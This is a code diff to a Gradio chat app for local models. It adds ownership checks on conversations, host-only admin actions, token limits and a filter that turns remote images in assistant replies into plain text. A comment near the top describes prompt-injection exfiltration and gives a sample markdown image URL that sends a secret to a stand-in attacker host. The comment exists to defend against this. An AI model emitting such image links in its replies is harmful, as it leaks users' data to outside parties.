@@ -14,9 +14,11 @@ from pathlib import Path
 
 import gradio as gr
 
-from conversations import ConversationStore, StoredMessage, to_json, to_markdown
+from conversations import Conversation, ConversationStore, StoredMessage, to_json, to_markdown
 from engines import chat_models
 from engines.base import ChatEngine, ChatMessage, ChatParams, ChatStats
+from server.principal import HOST, Principal
+from ui.access import Access, principal_of, require_host
 from ui.common import ensure_loaded, model_line, user_errors
 from ui.presets import ChatPreset, PresetError, save_preset
 
@@ -26,6 +28,10 @@ SAVE_EVERY_SECONDS = 0.5  # how often a streaming reply is written to the databa
 # Tokens arriving faster than this are sent to the page together: the eye cannot tell, and each update
 # costs the server a render, a diff and a send that would otherwise slow generation itself.
 UPDATE_EVERY_SECONDS = 1 / 20
+# A reply may load images from anywhere, and a prompt-injected reply can use that to send data out
+# (![](https://evil.example/?q=<secret>)): remote images show as links instead (the page's CSP blocks them too).
+REMOTE_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?(https?:)?//[^)]*\)", re.IGNORECASE)
+HTML_IMAGE = re.compile(r"<\s*img\b[^>]*>", re.IGNORECASE)
 
 
 def clean_message(text: str | None) -> str:
@@ -56,10 +62,15 @@ def stats_line(stats: dict | ChatStats) -> str:
     return line
 
 
-def to_chatbot(messages: list[StoredMessage]) -> list[dict]:
+def without_remote_images(text: str) -> str:
+    text = REMOTE_IMAGE.sub(lambda m: f"[image: {m.group(1) or 'remote image'} (not loaded)]", text)
+    return HTML_IMAGE.sub("[image (not loaded)]", text)
+
+
+def to_chatbot(messages: list[StoredMessage], remote_images: bool = False) -> list[dict]:
     shown = []
     for m in messages:
-        content = m.content
+        content = m.content if remote_images or m.role != "assistant" else without_remote_images(m.content)
         if m.role == "assistant" and m.stats:
             content += f"\n\n<sub>{stats_line(m.stats)}</sub>"
         shown.append({"role": m.role, "content": content})
@@ -98,48 +109,81 @@ class Sampling:
 class ChatPanel:
     """The handlers, bound to one engine and one store. Plain methods: tests call them directly."""
 
-    def __init__(self, engine: ChatEngine, store: ConversationStore, models_dir: Path, presets: list[ChatPreset], user_presets_dir: Path) -> None:
+    def __init__(
+        self,
+        engine: ChatEngine,
+        store: ConversationStore,
+        models_dir: Path,
+        presets: list[ChatPreset],
+        user_presets_dir: Path,
+        access: Access | None = None,
+        remote_images: bool = False,
+    ) -> None:
         self.engine = engine
         self.store = store
         self.models_dir = models_dir
         self.presets = {p.name: p for p in presets}
         self.user_presets_dir = user_presets_dir
+        self.access = access or Access()
+        self.remote_images = remote_images
+
+    def chatbot(self, messages: list[StoredMessage]) -> list[dict]:
+        return to_chatbot(messages, self.remote_images)
 
     # ---------------------------------------------------------------- conversations
 
-    def history_choices(self) -> list[tuple[str, int]]:
-        return [(c.title, c.id) for c in self.store.list()]
+    def conversation(self, conversation_id: str | None, principal: Principal = HOST) -> Conversation:
+        """The conversation if this person may see it; someone else's answers exactly like a missing one."""
+        try:
+            return self.store.get(conversation_id, None if principal.is_host else principal.owner)
+        except KeyError:
+            raise gr.Error(f"There is no conversation {conversation_id}.", title="Not found") from None
 
-    def history_update(self, selected: int | None) -> dict:
-        return gr.update(choices=self.history_choices(), value=selected)
+    def history_choices(self, principal: Principal = HOST) -> list[tuple[str, str]]:
+        """This person's conversations; the host's list has everyone's, a guest's marked with their name."""
+        mine = principal.owner
+        return [
+            (c.title if c.owner == mine else f"{c.title} · {c.owner.removeprefix('guest:')}", c.id)
+            for c in self.store.list(None if principal.is_host else mine)
+        ]
 
-    def open_conversation(self, conversation_id: int | None):
+    def history_update(self, selected: str | None, principal: Principal = HOST) -> dict:
+        return gr.update(choices=self.history_choices(principal), value=selected)
+
+    def open_conversation(self, conversation_id: str | None, principal: Principal = HOST):
         if conversation_id is None:
             return [], None, "", ""
+        title = self.conversation(conversation_id, principal).title
         messages = self.store.messages(conversation_id)
         last = next((m for m in reversed(messages) if m.role == "assistant" and m.stats), None)
-        title = self.store.get(conversation_id).title
-        return to_chatbot(messages), conversation_id, title, stats_line(last.stats) if last else ""
+        return self.chatbot(messages), conversation_id, title, stats_line(last.stats) if last else ""
 
-    def rename(self, conversation_id: int | None, title: str):
+    def rename(self, conversation_id: str | None, title: str, principal: Principal = HOST):
         if conversation_id is None:
             raise gr.Error("Open a conversation to rename it.", title="Nothing to rename")
         if not title.strip():
             raise gr.Error("The new name is empty.", title="Check your input")
+        self.conversation(conversation_id, principal)
         self.store.rename(conversation_id, title)
-        return self.history_update(conversation_id)
+        return self.history_update(conversation_id, principal)
 
-    def delete(self, conversation_id: int | None):
+    def delete(self, conversation_id: str | None, principal: Principal = HOST):
         if conversation_id is not None:
+            self.conversation(conversation_id, principal)
             self.store.delete(conversation_id)
-        return self.history_update(None), [], None, "", ""
+        return self.history_update(None, principal), [], None, "", ""
 
-    def export(self, conversation_id: int | None) -> list[str]:
+    def export(self, conversation_id: str | None, principal: Principal = HOST) -> list[str]:
         if conversation_id is None:
             raise gr.Error("Open a conversation to export it.", title="Nothing to export")
-        conversation = self.store.get(conversation_id)
+        conversation = self.conversation(conversation_id, principal)
         messages = self.store.messages(conversation_id)
-        folder = Path(tempfile.mkdtemp(prefix="melange-export-"))
+        if self.access.data_dir is not None:
+            base = self.access.folder("exports", principal)
+            base.mkdir(parents=True, exist_ok=True)
+            folder = Path(tempfile.mkdtemp(prefix="chat-", dir=base))
+        else:
+            folder = Path(tempfile.mkdtemp(prefix="melange-export-"))
         stem = re.sub(r"[^\w-]+", "-", conversation.title).strip("-")[:40] or "conversation"
         md, js = folder / f"{stem}.md", folder / f"{stem}.json"
         md.write_text(to_markdown(conversation, messages), encoding="utf-8")
@@ -148,51 +192,61 @@ class ChatPanel:
 
     # ---------------------------------------------------------------- generation
 
-    def send(self, conversation_id: int | None, message: str, *controls, progress=gr.Progress()):
+    def _params(self, sampling: Sampling, principal: Principal) -> ChatParams:
+        params = sampling.params()
+        self.access.limits.check_tokens(principal, params.max_tokens)
+        return params
+
+    def send(self, conversation_id: str | None, message: str, *controls, principal: Principal = HOST, progress=gr.Progress()):
         """Store the user's message first, then stream the reply into the page and the database."""
         message = clean_message(message)
         sampling = Sampling(*controls)
-        params = sampling.params()
+        params = self._params(sampling, principal)
         if conversation_id is None:
-            conversation_id = self.store.create(message).id
+            conversation_id = self.store.create(message, owner=principal.owner).id
+        else:
+            self.conversation(conversation_id, principal)
         self.store.add_message(conversation_id, "user", message)
-        yield from self._reply(conversation_id, sampling, params, progress, clear_textbox=True)
+        yield from self._reply(conversation_id, sampling, params, progress, clear_textbox=True, principal=principal)
 
-    def regenerate(self, conversation_id: int | None, *controls, progress=gr.Progress()):
+    def regenerate(self, conversation_id: str | None, *controls, principal: Principal = HOST, progress=gr.Progress()):
         """Replace the last reply with a new one."""
         if conversation_id is None:
             raise gr.Error("There is no reply to regenerate yet.", title="Nothing to regenerate")
         sampling = Sampling(*controls)
-        params = sampling.params()
+        params = self._params(sampling, principal)
+        self.conversation(conversation_id, principal)
         messages = self.store.messages(conversation_id)
         if messages and messages[-1].role == "assistant":
             self.store.delete_messages_from(conversation_id, messages[-1].id)
         elif not messages or messages[-1].role != "user":  # a question left unanswered is answered now
             raise gr.Error("There is no reply to regenerate yet.", title="Nothing to regenerate")
-        yield from self._reply(conversation_id, sampling, params, progress, clear_textbox=False)
+        yield from self._reply(conversation_id, sampling, params, progress, clear_textbox=False, principal=principal)
 
-    def edit(self, conversation_id: int | None, index: int, new_text: str, *controls, progress=gr.Progress()):
+    def edit(self, conversation_id: str | None, index: int, new_text: str, *controls, principal: Principal = HOST, progress=gr.Progress()):
         """Replace a user message (shown at ``index``), drop what followed it, and answer again."""
         message = clean_message(new_text)
         sampling = Sampling(*controls)
-        params = sampling.params()
+        params = self._params(sampling, principal)
+        if conversation_id is not None:
+            self.conversation(conversation_id, principal)
         messages = self.store.messages(conversation_id) if conversation_id is not None else []
         if not 0 <= index < len(messages) or messages[index].role != "user":
             raise gr.Error("Only your own messages can be edited.", title="Cannot edit that")
         self.store.delete_messages_from(conversation_id, messages[index].id)
         self.store.add_message(conversation_id, "user", message)
-        yield from self._reply(conversation_id, sampling, params, progress, clear_textbox=False)
+        yield from self._reply(conversation_id, sampling, params, progress, clear_textbox=False, principal=principal)
 
-    def _reply(self, conversation_id: int, sampling: Sampling, params: ChatParams, progress, clear_textbox: bool):
+    def _reply(self, conversation_id: str, sampling: Sampling, params: ChatParams, progress, clear_textbox: bool, principal: Principal = HOST):
         textbox = "" if clear_textbox else gr.skip()
         history = self.store.messages(conversation_id)
-        yield to_chatbot(history), conversation_id, textbox, "", self.history_update(conversation_id)
+        yield self.chatbot(history), conversation_id, textbox, "", self.history_update(conversation_id, principal)
         ensure_loaded(self.engine, progress)
         for reply in self._generate(conversation_id, history, sampling, params):
             stats = reply.stats
-            yield to_chatbot([*history, reply]), gr.skip(), gr.skip(), stats_line(stats) if stats else gr.skip(), gr.skip()
+            yield self.chatbot([*history, reply]), gr.skip(), gr.skip(), stats_line(stats) if stats else gr.skip(), gr.skip()
 
-    def _generate(self, conversation_id: int, history: list[StoredMessage], sampling: Sampling, params: ChatParams) -> Iterator[StoredMessage]:
+    def _generate(self, conversation_id: str, history: list[StoredMessage], sampling: Sampling, params: ChatParams) -> Iterator[StoredMessage]:
         """The reply as it grows, at most ``1 / UPDATE_EVERY_SECONDS`` times a second; the last one carries
         the stats. The reply is saved as it streams; stopped or failed, the partial reply is kept."""
         settings = {
@@ -233,16 +287,16 @@ class ChatPanel:
 
     # ---------------------------------------------------------------- API
 
-    def api_chat(self, message: str, sampling: Sampling, conversation_id: int | None) -> Iterator[dict]:
+    def api_chat(self, message: str, sampling: Sampling, conversation_id: str | None, principal: Principal = HOST) -> Iterator[dict]:
         """The ``/chat`` API: one message in, the reply streamed out as ``{"conversation_id", "reply",
         "stats"}``. Stateless between calls: no id starts a new conversation, an id continues that one. Stored
         like the page's conversations, so an API chat shows in the sidebar too."""
         message = clean_message(message)
-        params = sampling.params()
-        if conversation_id is None:
-            conversation_id = self.store.create(message).id
-        elif not self.store.exists(conversation_id):
-            raise gr.Error(f"There is no conversation {conversation_id}.", title="Check your input")
+        params = self._params(sampling, principal)
+        if not conversation_id:
+            conversation_id = self.store.create(message, owner=principal.owner).id
+        else:
+            self.conversation(conversation_id, principal)
         self.store.add_message(conversation_id, "user", message)
         history = self.store.messages(conversation_id)
         ensure_loaded(self.engine, None)
@@ -257,7 +311,8 @@ class ChatPanel:
             raise gr.Error(f"No preset named {name!r}.", title="Unknown preset")
         return preset.system_prompt, preset.temperature, preset.top_p, preset.top_k, preset.repeat_penalty, preset.max_tokens
 
-    def save_preset(self, name: str, system_prompt, temperature, top_p, top_k, repeat_penalty, max_tokens):
+    def save_preset(self, name: str, system_prompt, temperature, top_p, top_k, repeat_penalty, max_tokens, principal: Principal = HOST):
+        require_host(principal, "save shared presets")
         name = (name or "").strip()
         if not name:
             raise gr.Error("Give the preset a name.", title="Check your input")
@@ -283,7 +338,8 @@ class ChatPanel:
     def model_choices(self) -> list[tuple[str, str]]:
         return [(m.name, str(m.path)) for m in chat_models.find_models(self.models_dir)]
 
-    def switch_model(self, path: str, n_ctx: float):
+    def switch_model(self, path: str, n_ctx: float, principal: Principal = HOST):
+        require_host(principal, "switch models")
         if not path:
             raise gr.Error("Choose a model first.", title="Check your input")
         name = next((n for n, p in self.model_choices() if p == path), Path(path).name)
@@ -292,7 +348,8 @@ class ChatPanel:
         gr.Info(f"Switched to {name}; it loads with your next message.")
         return model_line(self.engine)
 
-    def download(self, repo_id: str, filename: str, progress=gr.Progress(track_tqdm=True)):
+    def download(self, repo_id: str, filename: str, principal: Principal = HOST, progress=gr.Progress(track_tqdm=True)):
+        require_host(principal, "download models")
         progress(0.0, desc=f"Downloading {filename} from {repo_id}…")
         with user_errors():
             path = chat_models.download(repo_id, filename)
@@ -310,9 +367,11 @@ def build(
     store: ConversationStore,
     models_dir: Path,
     user_presets_dir: Path,
+    access: Access | None = None,
+    remote_images: bool = False,
 ) -> None:
     """Lay out the chat panel inside ``blocks``; the sidebar and model list refresh on every page load."""
-    panel = ChatPanel(engine, store, models_dir, presets, user_presets_dir)
+    panel = ChatPanel(engine, store, models_dir, presets, user_presets_dir, access, remote_images)
     preset = presets[0]
     conversation_id = gr.State(None)
     with gr.Row():
@@ -342,8 +401,8 @@ def build(
             with gr.Accordion("Sampling and presets", open=False, elem_id="chat-settings"):
                 with gr.Row():
                     preset_choice = gr.Dropdown(list(panel.presets), value=preset.name, label="Preset", elem_id="chat-preset")
-                    preset_name = gr.Textbox(label="Save current settings as", placeholder="Preset name")
-                    save = gr.Button("Save as new preset", size="sm")
+                    preset_name = gr.Textbox(label="Save current settings as", placeholder="Preset name", elem_id="chat-preset-name")
+                    save = gr.Button("Save as new preset", size="sm", elem_id="chat-preset-save")
                 system_prompt = gr.Textbox(preset.system_prompt, label="System prompt", lines=2)
                 with gr.Row():
                     temperature = gr.Slider(0.0, 2.0, value=preset.temperature, step=0.05, label="Temperature")
@@ -353,7 +412,7 @@ def build(
                     repeat_penalty = gr.Slider(0.5, 2.0, value=preset.repeat_penalty, step=0.05, label="Repeat penalty")
                     max_tokens = gr.Slider(16, 4096, value=preset.max_tokens, step=16, label="Max new tokens", elem_id="chat-max-tokens")
                     seed = gr.Number(-1, precision=None, label="Seed (-1: random)")
-            with gr.Accordion("Model", open=False, elem_id="chat-model-settings"):
+            with gr.Accordion("Model", open=False, elem_id="chat-model-settings") as model_settings:
                 with gr.Row():
                     model_choice = gr.Dropdown(panel.model_choices(), label="Model", scale=3, elem_id="chat-model-choice")
                     n_ctx = gr.Slider(512, 32768, value=engine.n_ctx, step=512, label="Context length (tokens)", scale=2)
@@ -365,35 +424,70 @@ def build(
 
     controls = [system_prompt, temperature, top_p, top_k, repeat_penalty, max_tokens, seed, preset_choice]
     outputs = [chatbot, conversation_id, message, stats, history]
-    refresh_model = {"fn": lambda: model_line(engine), "inputs": None, "outputs": model_info}
+    refresh_model = {"fn": lambda: model_line(engine), "inputs": None, "outputs": model_info, "api_visibility": "private"}
 
+    # gr.Request comes first: Gradio fills it by position, and after *values it would never arrive.
+    def on_send(request: gr.Request, conv_id, text, *values, progress=gr.Progress()):
+        yield from panel.send(conv_id, text, *values, principal=principal_of(request), progress=progress)
+
+    def on_retry(request: gr.Request, conv_id, *values, progress=gr.Progress()):
+        yield from panel.regenerate(conv_id, *values, principal=principal_of(request), progress=progress)
+
+    def on_edit(request: gr.Request, conv_id, *values, data: gr.EditData, progress=gr.Progress()):
+        yield from panel.edit(conv_id, data.index, data.value, *values, principal=principal_of(request), progress=progress)
+
+    private = {"concurrency_id": "chat", "api_visibility": "private"}
     events = [
-        message.submit(panel.send, [conversation_id, message, *controls], outputs, concurrency_id="chat", api_visibility="private"),
-        send.click(panel.send, [conversation_id, message, *controls], outputs, concurrency_id="chat", api_visibility="private"),
-        chatbot.retry(panel.regenerate, [conversation_id, *controls], outputs, concurrency_id="chat"),
+        message.submit(on_send, [conversation_id, message, *controls], outputs, **private),
+        send.click(on_send, [conversation_id, message, *controls], outputs, **private),
+        chatbot.retry(on_retry, [conversation_id, *controls], outputs, **private),
+        chatbot.edit(on_edit, [conversation_id, *controls], outputs, **private),
     ]
-
-    def on_edit(conv_id, *controls, data: gr.EditData, progress=gr.Progress()):
-        yield from panel.edit(conv_id, data.index, data.value, *controls, progress=progress)
-
-    events.append(chatbot.edit(on_edit, [conversation_id, *controls], outputs, concurrency_id="chat"))
     for event in events:
         event.then(**refresh_model)
     stop.click(None, None, None, cancels=events)
 
-    opened = [chatbot, conversation_id, title, stats]
-    new_chat.click(lambda: ([], None, "", "", gr.update(value=None)), None, [*opened, history], cancels=events)
-    history.input(panel.open_conversation, history, opened, cancels=events)
-    rename.click(panel.rename, [conversation_id, title], history)
-    delete.click(panel.delete, conversation_id, [history, *opened], cancels=events)
-    export.click(panel.export, conversation_id, exported)
-    chatbot.clear(lambda: (None, "", "", gr.update(value=None)), None, [conversation_id, title, stats, history], cancels=events)
+    def on_open(request: gr.Request, conv_id):
+        return panel.open_conversation(conv_id, principal_of(request))
 
-    blocks.load(lambda: (panel.history_update(None), gr.update(choices=panel.model_choices())), None, [history, model_choice])
-    preset_choice.input(panel.apply_preset, preset_choice, controls[:6])
-    save.click(panel.save_preset, [preset_name, *controls[:6]], preset_choice)
-    use_model.click(panel.switch_model, [model_choice, n_ctx], model_info, concurrency_id="chat")
-    download.click(panel.download, [repo_id, filename], model_choice)
+    def on_rename(request: gr.Request, conv_id, new_title):
+        return panel.rename(conv_id, new_title, principal_of(request))
+
+    def on_delete(request: gr.Request, conv_id):
+        return panel.delete(conv_id, principal_of(request))
+
+    def on_export(request: gr.Request, conv_id):
+        return panel.export(conv_id, principal_of(request))
+
+    def on_load(request: gr.Request):
+        principal = principal_of(request)
+        host_only = gr.update(visible=principal.is_host)
+        choices = gr.update(choices=panel.model_choices()) if principal.is_host else gr.skip()
+        return panel.history_update(None, principal), choices, host_only, host_only, host_only
+
+    def on_save(request: gr.Request, *values):
+        return panel.save_preset(*values, principal=principal_of(request))
+
+    def on_switch(request: gr.Request, path, context):
+        return panel.switch_model(path, context, principal_of(request))
+
+    def on_download(request: gr.Request, repo, name, progress=gr.Progress(track_tqdm=True)):
+        return panel.download(repo, name, principal_of(request), progress)
+
+    page_only = {"api_visibility": "private"}
+    opened = [chatbot, conversation_id, title, stats]
+    new_chat.click(lambda: ([], None, "", "", gr.update(value=None)), None, [*opened, history], cancels=events, **page_only)
+    history.input(on_open, history, opened, cancels=events, **page_only)
+    rename.click(on_rename, [conversation_id, title], history, **page_only)
+    delete.click(on_delete, conversation_id, [history, *opened], cancels=events, **page_only)
+    export.click(on_export, conversation_id, exported, **page_only)
+    chatbot.clear(lambda: (None, "", "", gr.update(value=None)), None, [conversation_id, title, stats, history], cancels=events, **page_only)
+
+    blocks.load(on_load, None, [history, model_choice, model_settings, preset_name, save], **page_only)
+    preset_choice.input(panel.apply_preset, preset_choice, controls[:6], **page_only)
+    save.click(on_save, [preset_name, *controls[:6]], preset_choice, **page_only)
+    use_model.click(on_switch, [model_choice, n_ctx], model_info, concurrency_id="chat", **page_only)
+    download.click(on_download, [repo_id, filename], model_choice, **page_only)
 
     # The API's own endpoint: plain values in, just the reply out, in the same queue as the page's messages.
     # The page's event sends the whole conversation on every update; an API caller wants the reply.
@@ -406,11 +500,12 @@ def build(
         repeat_penalty: float = preset.repeat_penalty,
         max_tokens: int = preset.max_tokens,
         seed: int = -1,
-        conversation_id: int | None = None,
+        conversation_id: str | None = None,
+        request: gr.Request = None,
     ) -> Iterator[dict]:
         """Send a message and stream the reply as {"conversation_id", "reply", "stats"}; the last update carries
         the token stats. Leave conversation_id empty to start a conversation, pass it back to continue one."""
         sampling = Sampling(system_prompt, temperature, top_p, top_k, repeat_penalty, max_tokens, seed, preset=None)
-        yield from panel.api_chat(message, sampling, conversation_id)
+        yield from panel.api_chat(message, sampling, conversation_id, principal_of(request))
 
     gr.api(chat, api_name="chat", concurrency_id="chat")
